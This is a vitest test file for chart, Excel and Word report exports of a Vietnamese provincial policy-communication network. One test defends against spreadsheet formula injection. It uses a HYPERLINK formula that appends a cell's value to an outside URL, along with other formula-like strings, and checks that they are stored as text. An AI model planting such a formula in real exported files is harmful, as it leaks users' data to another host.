import { inflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { CHART_HEIGHT, CHART_WIDTH, chartSvg, renderStatusChart } from '../../src/documents/chart.js';
import { formatDecreeDate } from '../../src/documents/dates.js';
import { splitIssuer } from '../../src/documents/docx-header.js';
import { renderReportDraft } from '../../src/documents/docx.js';
import { renderWorkbook } from '../../src/documents/xlsx.js';
import { agencyNames, emptyExportData, exportDataFixture, manyActivities } from '../fixtures/export-data.js';

// ---------- PNG helpers: enough of the format to read size and pixels of what resvg writes ----------

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

interface Pixels {
  width: number;
  height: number;
  /** RGBA, 4 bytes per pixel, rows top to bottom. */
  data: Uint8Array;
}

function decodePng(png: Buffer): Pixels {
  const width = png.readUInt32BE(16);
  const height = png.readUInt32BE(20);
  expect(png[24], 'bit depth').toBe(8);
  expect(png[25], 'colour type RGBA').toBe(6);
  const idat: Buffer[] = [];
  for (let offset = 8; offset < png.length;) {
    const length = png.readUInt32BE(offset);
    if (png.toString('ascii', offset + 4, offset + 8) === 'IDAT')
      idat.push(png.subarray(offset + 8, offset + 8 + length));
    offset += length + 12;
  }
  return { width, height, data: unfilter(inflateSync(Buffer.concat(idat)), width, height) };
}

function unfilter(raw: Buffer, width: number, height: number): Uint8Array {
  const stride = width * 4;
  const out = new Uint8Array(stride * height);
  for (let y = 0; y < height; y += 1) {
    const filter = raw[y * (stride + 1)]!;
    for (let x = 0; x < stride; x += 1) {
      const value = raw[y * (stride + 1) + 1 + x]!;
      const left = x >= 4 ? out[y * stride + x - 4]! : 0;
      const up = y > 0 ? out[(y - 1) * stride + x]! : 0;
      const upLeft = x >= 4 && y > 0 ? out[(y - 1) * stride + x - 4]! : 0;
      out[y * stride + x] = (value + predictor(filter, left, up, upLeft)) & 0xff;
    }
  }
  return out;
}

function predictor(filter: number, left: number, up: number, upLeft: number): number {
  if (filter === 0) return 0;
  if (filter === 1) return left;
  if (filter === 2) return up;
  if (filter === 3) return Math.floor((left + up) / 2);
  const p = left + up - upLeft;
  const [pa, pb, pc] = [Math.abs(p - left), Math.abs(p - up), Math.abs(p - upLeft)];
  return pa <= pb && pa <= pc ? left : pb <= pc ? up : upLeft;
}

/** Pixels clearly darker than the white background inside a box. */
function darkPixels(image: Pixels, box: { x: number; y: number; width: number; height: number }): number {
  let count = 0;
  for (let y = box.y; y < box.y + box.height; y += 1) {
    for (let x = box.x; x < box.x + box.width; x += 1) {
      const i = (y * image.width + x) * 4;
      if (image.data[i]! + image.data[i + 1]! + image.data[i + 2]! < 600) count += 1;
    }
  }
  return count;
}

function differingPixels(a: Pixels, b: Pixels): number {
  let count = 0;
  for (let i = 0; i < a.data.length; i += 4) {
    if (a.data[i] !== b.data[i] || a.data[i + 1] !== b.data[i + 1] || a.data[i + 2] !== b.data[i + 2]) count += 1;
  }
  return count;
}

// The left column of the "not submitted or late" list, where agency names are written.
const PENDING_NAMES = { x: 64, y: 295, width: 400, height: 105 };

describe('renderStatusChart', () => {
  it('writes a PNG of the documented 1000 x 700 size', () => {
    const png = renderStatusChart(exportDataFixture());
    expect([...png.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
    expect(png.toString('ascii', 12, 16)).toBe('IHDR');
    expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([1000, 700]);
    expect([CHART_WIDTH, CHART_HEIGHT]).toEqual([1000, 700]);
  });

  it('draws Vietnamese agency names with their diacritics', () => {
    const withNames = decodePng(renderStatusChart(exportDataFixture()));
    const blankNames = exportDataFixture();
    blankNames.agencies = blankNames.agencies.map((agency) => ({ ...agency, name: '' }));
    const withoutNames = decodePng(renderStatusChart(blankNames));
    const ascii = exportDataFixture();
    ascii.agencies = ascii.agencies.map((agency) => ({
      ...agency,
      name: agency.name.normalize('NFD').replace(/[\u0300-\u036f]/g, ''),
    }));
    const withoutDiacritics = decodePng(renderStatusChart(ascii));

    expect(darkPixels(withNames, { x: 0, y: 0, width: 1000, height: 700 })).toBeGreaterThan(20_000);
    expect(darkPixels(withNames, PENDING_NAMES)).toBeGreaterThan(darkPixels(withoutNames, PENDING_NAMES) + 500);
    expect(differingPixels(withNames, withoutDiacritics)).toBeGreaterThan(50);
  });

  it('says "Chưa có dữ liệu" in both panels when there are no agencies and no activities', () => {
    const data = emptyExportData();
    expect(chartSvg(data).match(/Chưa có dữ liệu/g)).toHaveLength(2);
    const image = decodePng(renderStatusChart(data));
    expect(image.width).toBe(1000);
    expect(darkPixels(image, { x: 380, y: 240, width: 240, height: 40 })).toBeGreaterThan(200);
  });

  it('shortens long agency names with an ellipsis and escapes XML characters', () => {
    const data = exportDataFixture();
    const longName = `Ủy ban nhân dân xã ${'Đồng Thịnh '.repeat(12)}`.trim();
    data.agencies = [
      { id: 'long', name: longName, status: 'missing' },
      { id: 'amp', name: 'Ban Dân vận & <Khối>', status: 'late' },
    ];
    const svg = chartSvg(data);
    expect(svg).not.toContain(longName);
    expect(svg).toMatch(/Ủy ban nhân dân xã Đồng Thịnh[^<]*…<\/text>/);
    expect(svg).toContain('Ban Dân vận &amp; &lt;Khối&gt;</text>');
    expect(() => renderStatusChart(data)).not.toThrow();
  });
});

// ---------- Workbook ----------

async function openWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}

function sheet(workbook: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const found = workbook.getWorksheet(name);
  if (!found) throw new Error(`no sheet ${name}`);
  return found;
}

/** The Vietnam wall-clock time of a "+07:00" local time, as spreadsheets store it. */
const wallClock = (local: string): Date => new Date(`${local}Z`);

describe('renderWorkbook', () => {
  it('has one sheet per view of the data', async () => {
    const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
    expect(workbook.worksheets.map((ws) => ws.name)).toEqual([
      'Tổng hợp',
      'Báo cáo',
      'Nhiệm vụ',
      'Hoạt động',
      'Theo loại',
      'Theo cơ quan',
      'Cấp dưới',
    ]);
  });

  it('gives every sheet a bold frozen header, an autoFilter over its rows and column widths', async () => {
    const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
    for (const ws of workbook.worksheets) {
      expect(ws.getRow(5).getCell(1).font?.bold, ws.name).toBe(true);
      expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 5 });
      const lastColumn = ws.getRow(5).cellCount;
      expect(ws.autoFilter, ws.name).toBe(`A5:${String.fromCharCode(64 + lastColumn)}${ws.rowCount}`);
      for (let c = 1; c <= lastColumn; c += 1)
        expect(ws.getColumn(c).width, `${ws.name} column ${c}`).toBeGreaterThan(5);
    }
  });

  it('lists every agency with its status and submission time as a real date', async () => {
    const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Tổng hợp');
    expect(ws.getRow(5).values).toEqual([
      undefined,
      'STT',
      'Cơ quan, đơn vị',
      'Cán bộ đầu mối',
      'Tình trạng',
      'Thời điểm nộp',
      'Số báo cáo',
    ]);
    const first = ws.getRow(6);
    expect(first.getCell(1).value).toBe(1);
    expect(first.getCell(2).value).toBe(agencyNames.justice);
    expect(first.getCell(3).value).toBe('Nguyễn Văn An, Trần Thị Bình');
    expect(first.getCell(4).value).toBe('Đúng hạn');
    expect(first.getCell(5).value).toEqual(wallClock('2026-12-18T10:15:00'));
    expect(first.getCell(5).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(first.getCell(6).value).toBe('12/BC-STP');
    expect(ws.getRow(9).getCell(3).value).toBe('(chưa có cán bộ)');
    expect(ws.getRow(9).getCell(4).value).toBe('Chưa nộp');
    expect(ws.getRow(9).getCell(5).value).toBeNull();
  });

  it('puts the network and the period above every table and prints landscape, one page wide', async () => {
    const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
    for (const ws of workbook.worksheets) {
      expect(ws.getRow(1).getCell(1).value, ws.name).toBe('Mạng lưới truyền thông chính sách tỉnh Vĩnh Phúc');
      expect(ws.getRow(2).getCell(1).value, ws.name).toBe(
        'Kỳ báo cáo: quý IV năm 2026 (số liệu từ 15/09/2026 đến 14/12/2026)',
      );
      expect(ws.getRow(3).getCell(1).value, ws.name).toBe('Xuất lúc 09:30 05/01/2027');
      expect(ws.pageSetup, ws.name).toMatchObject({
        orientation: 'landscape',
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        paperSize: 9,
        printTitlesRow: '5:5',
      });
    }
  });

  it('keeps texts that start like a formula as text (=, +, -, @)', async () => {
    const data = exportDataFixture();
    const evil = ['=HYPERLINK("http://x.vn/?d="&A1,"Xem")', '+1+2', '-2+3', '@SUM(1,2)'];
    data.activities = data.activities.slice(0, 4).map((activity, i) => ({ ...activity, title: evil[i]! }));
    data.agencies[0] = { ...data.agencies[0]!, name: '=1+1' };
    const buffer = await renderWorkbook(data);
    const zip = await JSZip.loadAsync(buffer);
    for (const file of zip.file(/xl\/worksheets\/sheet\d+\.xml/)) {
      const xml = await file.async('string');
      expect(xml, file.name).not.toContain('<f>');
    }
    const workbook = await openWorkbook(buffer);
    const titles: unknown[] = [];
    sheet(workbook, 'Hoạt động').eachRow((row, n) => n > 5 && titles.push(row.getCell(5).value));
    expect(titles).toEqual(expect.arrayContaining(evil.map((text) => `'${text}`)));
    expect(sheet(workbook, 'Tổng hợp').getRow(6).getCell(2).value).toBe("'=1+1");
    expect(sheet(workbook, 'Theo loại').getRow(6).getCell(4).value).toBe(-1);
  });

  it('puts every answer of every submission under its question', async () => {
    const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Báo cáo');
    const headers = ws.getRow(5).values as unknown[];
    expect(headers).toContain('Số tin, bài đăng trên cổng thông tin điện tử');
    expect(headers).not.toContain('Tình hình thực hiện nhiệm vụ được giao');
    const column = (prompt: string) => headers.indexOf(prompt);
    const justice = ws.getRow(6);
    expect(justice.getCell(1).value).toBe(agencyNames.justice);
    expect(justice.getCell(2).value).toBeInstanceOf(Date);
    expect(justice.getCell(column('Số tin, bài đăng trên cổng thông tin điện tử')).value).toBe(24);
    expect(justice.getCell(column('Đã bố trí người phát ngôn')).value).toBe('Có');
    expect(justice.getCell(column('Kinh phí đã sử dụng (đồng)')).value).toBe(15_000_000);
    expect(ws.getRow(7).getCell(3).value).toBe('Có');
    expect(ws.getRow(7).getCell(4).value).toBe(2);
    expect(ws.rowCount).toBe(8);
  });

  it('lists task statuses per agency in their own sheet', async () => {
    const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Nhiệm vụ');
    expect(ws.getRow(7).values).toEqual([
      undefined,
      agencyNames.justice,
      '1. Nhiệm vụ chung',
      'Xây dựng kế hoạch truyền thông hằng năm',
      'Đang thực hiện',
      'Chờ phê duyệt',
    ]);
  });

  it('writes activities newest first with dates as Date cells in dd/mm/yyyy', async () => {
    const ws = sheet(await openWorkbook(await renderWorkbook(exportDataFixture())), 'Hoạt động');
    const newest = ws.getRow(6);
    expect(newest.getCell(2).value).toEqual(wallClock('2026-12-10T10:30:00'));
    expect(newest.getCell(2).numFmt).toBe('dd/mm/yyyy');
    expect(ws.getRow(7).getCell(7).value).toBe(120);
    expect(ws.getRow(9).getCell(5).value).toBe('Họp báo quý III về dự thảo Nghị quyết');
  });

  it('counts activities per type and per agency as numbers', async () => {
    const workbook = await openWorkbook(await renderWorkbook(exportDataFixture()));
    expect(sheet(workbook, 'Theo loại').getRow(6).values).toEqual([undefined, 'Họp báo', 1, 2, -1]);
    const byAgency = sheet(workbook, 'Theo cơ quan');
    expect(byAgency.getRow(5).values).toEqual([
      undefined,
      'Cơ quan, đơn vị',
      'Họp báo',
      'Tin/bài trên cổng thông tin điện tử',
      'Tập huấn, bồi dưỡng',
      'Tổng',
    ]);
    expect(byAgency.getRow(6).values).toEqual([undefined, agencyNames.justice, 1, 1, 0, 2]);
  });

  it('keeps only the most recent activities past the cap and says how many were left out', async () => {
    const newest = new Date('2026-12-14T00:00:00Z');
    const data = { ...exportDataFixture(), activities: manyActivities(30, newest).reverse() };
    const ws = sheet(await openWorkbook(await renderWorkbook(data, { maxActivityRows: 10 })), 'Hoạt động');
    expect(ws.autoFilter).toBe('A5:H15');
    expect(ws.getRow(6).getCell(5).value).toBe('Tin bài số 0');
    expect(ws.getRow(15).getCell(5).value).toBe('Tin bài số 9');
    expect(String(ws.getRow(17).getCell(1).value)).toContain('20 hoạt động cũ hơn');
  });

  // CPU time rather than wall time, so other processes on a busy machine do not make the test flaky.
  // Its speed is measured in npm run bench (a timed test fails on a busy machine, not on a slow workbook).
  it('writes 120,000 activities capped at 100,000 rows with a note on the rest', async () => {
    const data = { ...exportDataFixture(), activities: manyActivities(120_000, new Date('2026-12-14T00:00:00Z')) };
    const buffer = await renderWorkbook(data);
    const zip = await JSZip.loadAsync(buffer);
    const activitiesXml = await zip.file('xl/worksheets/sheet4.xml')!.async('string');
    expect(activitiesXml).toContain('<autoFilter ref="A5:H100005"/>');
    expect(activitiesXml).toContain('20.000 hoạt động cũ hơn');
  }, 60_000);

  it('still writes every sheet with only headers when nothing was collected, and says so', async () => {
    const workbook = await openWorkbook(await renderWorkbook(emptyExportData()));
    expect(workbook.worksheets).toHaveLength(6);
    for (const ws of workbook.worksheets) {
      expect(String(ws.getRow(4).getCell(1).value), ws.name).toMatch(/^Kỳ báo cáo .* chưa có số liệu/);
      expect(ws.rowCount, ws.name).toBe(6);
    }
  });
});

// ---------- Report draft ----------

async function documentXml(buffer: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(buffer);
  return zip.file('word/document.xml')!.async('string');
}

/** Text of each paragraph, runs joined. */
function paragraphs(xml: string): string[] {
  return xml.split('</w:p>').map((part) =>
    [...part.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)]
      .map((match) => match[1])
      .join('')
      .replace(/&amp;/g, '&')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>'),
  );
}

describe('renderReportDraft', () => {
  it('lays out an A4 page with Nghị định 30 margins and a page number hidden on page 1', async () => {
    const buffer = await renderReportDraft(exportDataFixture());
    const xml = await documentXml(buffer);
    expect(xml).toMatch(/<w:pgSz w:w="11906" w:h="16838"/);
    const margins = xml.match(/<w:pgMar [^>]*>/)?.[0] ?? '';
    expect(margins).toContain('w:top="1134"');
    expect(margins).toContain('w:bottom="1134"');
    expect(margins).toContain('w:left="1701"');
    expect(margins).toContain('w:right="850"');
    expect(xml).toContain('<w:titlePg/>');
    const zip = await JSZip.loadAsync(buffer);
    const headers = await Promise.all(zip.file(/word\/header\d+\.xml/).map((file) => file.async('string')));
    expect(headers.filter((header) => header.includes('PAGE'))).toHaveLength(1);
    expect(xml).toMatch(/<w:headerReference w:type="first"/);
  });

  it('writes Times New Roman body text, justified with a 1.27 cm first-line indent', async () => {
    const xml = await documentXml(await renderReportDraft(exportDataFixture()));
    expect(xml).toContain('w:ascii="Times New Roman"');
    expect(xml).not.toMatch(/w:ascii="(?!Times New Roman)/);
    const opening = xml.split('<w:p>').find((part) => part.includes('Thực hiện Chỉ thị số 07/CT-TTg'))!;
    expect(opening).toContain('<w:jc w:val="both"/>');
    expect(opening).toContain('<w:ind w:firstLine="720"/>');
    expect(opening).toMatch(/w:after="120" w:line="276"/);
    expect(opening).toContain('<w:sz w:val="28"/>');
  });

  it('has the header block, title and subject of a Nghị định 30 report', async () => {
    const text = paragraphs(await documentXml(await renderReportDraft(exportDataFixture())));
    expect(text).toEqual(
      expect.arrayContaining([
        'ỦY BAN NHÂN DÂN',
        'TỈNH VĨNH PHÚC',
        'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
        'Độc lập - Tự do - Hạnh phúc',
        'Số: …/BC-UBND',
        'Vĩnh Phúc, ngày 05 tháng 01 năm 2027',
        'BÁO CÁO',
        'Kính gửi: Bộ Văn hóa, Thể thao và Du lịch.',
      ]),
    );
    expect(
      text.some((p) => p.startsWith('Kết quả thực hiện Chỉ thị số 07/CT-TTg') && p.endsWith('quý IV năm 2026')),
    ).toBe(true);
  });

  it('fills sections I-V from the latest answers, task statuses, activity counts and issues', async () => {
    const data = exportDataFixture();
    data.submissions.push({ ...data.submissions[1]!, version: 1, answers: { 'ke-hoach': 'Bản cũ đã bị thay thế' } });
    const text = paragraphs(await documentXml(await renderReportDraft(data)));
    const index = (start: string) => text.findIndex((p) => p.startsWith(start));
    const sections = ['I. CÔNG TÁC', 'II. KẾT QUẢ', 'III. ĐÁNH GIÁ', 'IV. PHƯƠNG HƯỚNG', 'V. ĐỀ XUẤT'].map(index);
    expect(sections.every((i) => i > 0)).toBe(true);
    expect([...sections].sort((a, b) => a - b)).toEqual(sections);

    expect(text).toContain(
      `- ${agencyNames.justice}: Ban hành Kế hoạch số 15/KH-STP ngày 10/01/2026 về truyền thông chính sách.`,
    );
    expect(text).toContain(`- Có: 2 cơ quan, đơn vị (${agencyNames.justice}, ${agencyNames.office}).`);
    expect(text.join('\n')).not.toContain('Bản cũ đã bị thay thế');
    expect(text).toContain('Có 3/5 cơ quan, đơn vị đã nộp báo cáo (2 đúng hạn, 1 nộp muộn).');
    expect(text).toContain(`Còn 2 cơ quan, đơn vị chưa nộp báo cáo: ${agencyNames.home}, ${agencyNames.finance}.`);
    expect(text).toContain(
      'Trong kỳ đã thực hiện 2 hoạt động truyền thông: Họp báo 1; Tin/bài trên cổng thông tin điện tử 1.',
    );
    expect(text).toContain(
      '- Chủ trì truyền thông dự thảo văn bản quy phạm pháp luật (mục 4. Sở Tư pháp): Đã hoàn thành.',
    );
    expect(text).toContain(
      '- Xây dựng kế hoạch truyền thông hằng năm (mục 1. Nhiệm vụ chung): Đang thực hiện (Chờ phê duyệt).',
    );
    expect(text).toContain('- Số tin, bài đăng trên cổng thông tin điện tử: 24.');
    expect(text.slice(sections[4]!)).toContain(`- Thiếu kinh phí thuê chuyên gia (${agencyNames.justice}).`);
    expect(text.slice(sections[4]!)).toContain(
      `- Đề nghị bố trí kinh phí truyền thông riêng (${agencyNames.justice}).`,
    );
    data.agencies.slice(0, 3).forEach((agency, i) => expect(text).toContain(`${i + 1}. ${agency.name}`));
  });

  it('states results under labels, not questions, and never doubles the punctuation', async () => {
    const data = exportDataFixture();
    data.questions.push(
      { id: 'ke-hoach-nam', section: 'I', prompt: 'Đơn vị đã ban hành kế hoạch truyền thông năm chưa?', type: 'yesno' },
      { id: 'so-hoi-nghi', section: 'II', prompt: 'Có bao nhiêu hội nghị đã tổ chức?', type: 'number' },
    );
    data.submissions[0]!.answers['so-hoi-nghi'] = 3;
    data.submissions[0]!.taskStatuses.push({
      section: '2.a',
      text: 'Cung cấp thông tin cho báo chí.',
      status: 'done',
      note: 'Đúng hạn.',
    });
    const text = paragraphs(await documentXml(await renderReportDraft(data)));
    expect(text).toContain('3. Ban hành kế hoạch truyền thông năm: (chưa có số liệu)');
    expect(text).toContain('- Số hội nghị đã tổ chức: 3.');
    expect(text).toContain('- Cung cấp thông tin cho báo chí (mục 2.a): Đã hoàn thành (Đúng hạn).');
    const all = text.join('\n');
    expect(all).not.toMatch(/\?:|\.:|\.\)\.|:\s*:/);
  });

  it('lists agencies with neither a report nor an activity in one line instead of a section each', async () => {
    const data = exportDataFixture();
    const idle = Array.from({ length: 30 }, (_, i) => ({
      id: `xa-${i}`,
      name: `UBND xã số ${i + 1}`,
      status: 'missing' as const,
    }));
    data.agencies.push(...idle);
    const text = paragraphs(await documentXml(await renderReportDraft(data)));
    const line = text.find((p) => p.startsWith('Còn 32 cơ quan, đơn vị chưa nộp báo cáo và chưa ghi nhận hoạt động'));
    expect(line).toContain(`${agencyNames.home}, ${agencyNames.finance}, UBND xã số 1,`);
    expect(line).toMatch(/UBND xã số 30\.$/);
    expect(text.filter((p) => p === 'Trong kỳ chưa ghi nhận hoạt động truyền thông nào.')).toHaveLength(0);
    expect(text.filter((p) => p === 'Chưa nộp báo cáo trong kỳ.')).toHaveLength(0);
    expect(text.some((p) => /^\d+\. UBND xã số/.test(p))).toBe(false);
  });

  it('ends with recipients, a signature block and the annex of figures', async () => {
    const text = paragraphs(await documentXml(await renderReportDraft(exportDataFixture())));
    expect(text).toEqual(
      expect.arrayContaining([
        'Nơi nhận:',
        '- Như trên;',
        '- Lưu: VT, …',
        'KT. CHỦ TỊCH',
        'PHÓ CHỦ TỊCH',
        '(Ký, ghi rõ họ tên)',
        '[Họ và tên]',
        'Phụ lục I',
        'Tổng cộng',
      ]),
    );
    const annex = text.slice(text.indexOf('Phụ lục I'));
    expect(annex.join('|')).toContain('1|Họp báo|1|2|-1');
    expect(annex.join('|')).toContain('Đúng hạn|2|40%');
    expect(annex.join('|')).toContain('Chưa nộp|2|40%');
  });

  it('still produces a complete draft with placeholders when nothing was collected', async () => {
    const buffer = await renderReportDraft(emptyExportData());
    const text = paragraphs(await documentXml(buffer));
    expect(text.filter((p) => p === '(chưa có số liệu)').length).toBeGreaterThanOrEqual(6);
    expect(text).toContain('BÁO CÁO');
    expect(text).toContain('Phụ lục I');
    expect(text.join('\n')).not.toContain(agencyNames.justice);
  });
});

describe('splitIssuer', () => {
  it('breaks long issuer names near the middle, preferring a comma, and keeps explicit breaks', () => {
    expect(splitIssuer({ name: 'Ủy ban nhân dân tỉnh Vĩnh Phúc' })).toEqual(['ỦY BAN NHÂN DÂN', 'TỈNH VĨNH PHÚC']);
    expect(splitIssuer({ name: 'SỞ VĂN HÓA, THỂ THAO VÀ DU LỊCH' })).toEqual(['SỞ VĂN HÓA,', 'THỂ THAO VÀ DU LỊCH']);
    expect(splitIssuer({ name: 'SỞ TƯ PHÁP' })).toEqual(['SỞ TƯ PHÁP']);
    expect(splitIssuer({ name: 'ỦY BAN NHÂN DÂN\nXÃ TAM ĐẢO' })).toEqual(['ỦY BAN NHÂN DÂN', 'XÃ TAM ĐẢO']);
  });
});

describe('formatDecreeDate', () => {
  it('pads days below 10 and months 1-2 only, in Vietnam time', () => {
    expect(formatDecreeDate(new Date('2027-01-04T18:00:00Z'))).toEqual({ day: '05', month: '01', year: '2027' });
    expect(formatDecreeDate(new Date('2027-02-09T03:00:00Z'))).toEqual({ day: '09', month: '02', year: '2027' });
    expect(formatDecreeDate(new Date('2027-03-09T03:00:00Z'))).toEqual({ day: '09', month: '3', year: '2027' });
    expect(formatDecreeDate(new Date('2026-11-15T03:00:00Z'))).toEqual({ day: '15', month: '11', year: '2026' });
  });
});
